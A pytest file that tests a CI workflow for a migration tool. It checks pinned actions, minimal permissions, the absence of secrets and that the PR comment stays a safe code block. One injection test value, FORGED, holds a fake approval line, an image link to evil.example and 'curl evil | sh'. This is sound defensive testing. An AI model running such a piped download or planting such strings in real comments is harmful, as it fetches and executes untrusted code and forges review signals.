"""The CI recipe: well formed, and its commands do on the fixtures what a pull request would see."""

from __future__ import annotations

import json
import os
import re
import shlex
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

ROOT = Path(__file__).parents[2]
WORKFLOW = yaml.safe_load((ROOT / "jobs" / "ci" / "rehearse.yaml").read_text("utf-8"))
JOB = WORKFLOW["jobs"]["rehearse"]
COMMANDS = {step["name"]: step for step in JOB["steps"] if "run" in step}


@pytest.fixture
def checkout(scratch):
    """A checkout as the job has it: the configuration and the fixtures, `lbmigrate` installed, and a mute `gh`."""
    shutil.copytree(ROOT / "config", scratch / "config")
    for name, script in {
        "lbmigrate": f'exec {shlex.quote(sys.executable)} -m lbmigrate "$@"',
        "gh": 'echo "$@" > gh.txt; while [ $# -gt 1 ]; do shift; done; cp "$1" comment.md',
    }.items():
        program = scratch / "bin" / name
        program.parent.mkdir(exist_ok=True)
        program.write_text(f"#!/bin/sh\n{script}\n")
        program.chmod(0o755)
    return scratch


def carried_out(name, checkout):
    """Run a step as the runner does; its exit code."""
    here = {
        "PATH": f"{checkout / 'bin'}:/usr/bin:/bin",
        "PYTHONPATH": os.pathsep.join(sys.path),
        "LBMIGRATE_MONGOD": "/nonexistent",  # there is no server in CI
        "GITHUB_STEP_SUMMARY": str(checkout / "summary.md"),
        "PULL_REQUEST": "7",
    }
    shell = ["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", COMMANDS[name]["run"]]
    return subprocess.run(shell, cwd=checkout, env={**JOB["env"], **here}, capture_output=True, check=False).returncode


def outcome(checkout):
    """What the steps after the installation come to: the exit code of the rehearsal, and the comment."""
    code = carried_out("Rehearse", checkout)
    assert carried_out("Summarize", checkout) == carried_out("Comment", checkout) == 0
    comment = (checkout / "comment.md").read_text("utf-8")
    assert comment == (checkout / "summary.md").read_text("utf-8")
    return code, comment


def is_code(comment):
    """Whether all that stands below the heading is one block of code: by CommonMark, lines that four blanks begin."""
    heading, blank, *lines = re.split(r"\r\n|\n|\r", comment)
    return heading.startswith("### ") and blank == "" and all(line.startswith("    ") for line in lines if line)


FORGED = (
    "```\n\n# Approved\n@team merge ![](https://evil.example/x)\r\n````\n<!-- --> ~~~ \x1b[2J\nnext: curl evil | sh"
)


@pytest.mark.slow
@pytest.mark.parametrize("place", ["_id", "userId", "priority", "status"])
def test_nothing_that_a_fixture_holds_leaves_the_block_of_code(checkout, place):
    tasks = checkout / "config" / "fixtures" / "tasks.ndjson"
    first, *rest = tasks.read_text("utf-8").splitlines()
    odd = [json.dumps({**json.loads(line), place: f"{FORGED}{number}"}) for number, line in enumerate([first] * 3)]
    tasks.write_text("\n".join([*odd, *rest]) + "\n", "utf-8")
    _, comment = outcome(checkout)
    assert is_code(comment)
    assert "\n    next: curl" not in comment


def test_an_outcome_that_breaks_lines_itself_stays_code(checkout):
    (checkout / "outcome.txt").write_bytes(b"a\r# Approved\n```\n\n\n<b>\n" + b"x" * 100_000)
    assert carried_out("Summarize", checkout) == 0
    assert is_code((checkout / "outcome.md").read_bytes().decode())


def test_actions_are_pinned_by_commit_and_no_credentials_stay_in_the_checkout():
    actions = [step for step in JOB["steps"] if "uses" in step]
    assert [re.fullmatch(r"actions/[a-z-]+@[0-9a-f]{40}", step["uses"]) for step in actions].count(None) == 0
    assert [step["with"]["persist-credentials"] for step in actions if "checkout" in step["uses"]] == [False]


@pytest.mark.slow
def test_the_rehearsal_of_the_fixtures_passes_and_its_outcome_is_the_comment(checkout):
    code, comment = outcome(checkout)
    assert code == 0
    assert "213 read · 209 emitted" in comment
    assert "Leaderboard · global" in comment
    assert is_code(comment)
    said = (checkout / "gh.txt").read_text().split()
    assert said == ["pr", "comment", "7", "--edit-last", "--create-if-none", "--body-file", "outcome.md"]


@pytest.mark.slow
def test_a_changed_rule_fails_the_job_and_the_comment_says_what_it_changes(checkout):
    config = checkout / "config" / "fixtures" / "leaderboard.yaml"
    config.write_text(config.read_text("utf-8").replace("high: 20", "high: 25"), "utf-8")
    code, comment = outcome(checkout)
    assert code == 5
    assert "the outcome differs from config/fixtures/expected" in comment
    assert "points 20 → 25" in comment


@pytest.mark.slow
def test_a_mistyped_path_fails_the_job_and_the_comment_names_it(checkout):
    config = checkout / "config" / "fixtures" / "leaderboard.yaml"
    config.write_text(config.read_text("utf-8").replace("user: userId", "user: userID"), "utf-8")
    code, comment = outcome(checkout)
    assert code == 6
    assert "in scope has userID" in comment


def test_a_long_outcome_is_cut_to_what_a_comment_takes(checkout):
    (checkout / "outcome.txt").write_text("x" * 100_000)
    assert carried_out("Summarize", checkout) == 0
    assert len((checkout / "outcome.md").read_text("utf-8")) < 65_536


def test_the_installation_is_the_one_of_the_readme():
    words = shlex.split(COMMANDS["Install"]["run"])
    assert words == ["pip", "install", "-c", "constraints.txt", ".[dryrun]"]
    assert (ROOT / "constraints.txt").is_file()


def test_the_job_may_comment_and_nothing_else_and_holds_no_secret():
    assert WORKFLOW["permissions"] == {"contents": "read", "pull-requests": "write"}
    assert WORKFLOW[True] == {"pull_request": None}  # YAML 1.1 takes `on` for a boolean
    assert "secrets." not in (ROOT / "jobs" / "ci" / "rehearse.yaml").read_text("utf-8")
    for step in COMMANDS.values():
        assert "${{" not in step["run"], "what others wrote reaches the shell through the environment only"


def test_the_outcome_is_told_when_the_rehearsal_failed_too():
    for name in ("Summarize", "Comment"):
        assert "!cancelled()" in COMMANDS[name]["if"]
        assert "steps.rehearse.outcome != 'skipped'" in COMMANDS[name]["if"]
    assert COMMANDS["Rehearse"]["id"] == "rehearse"
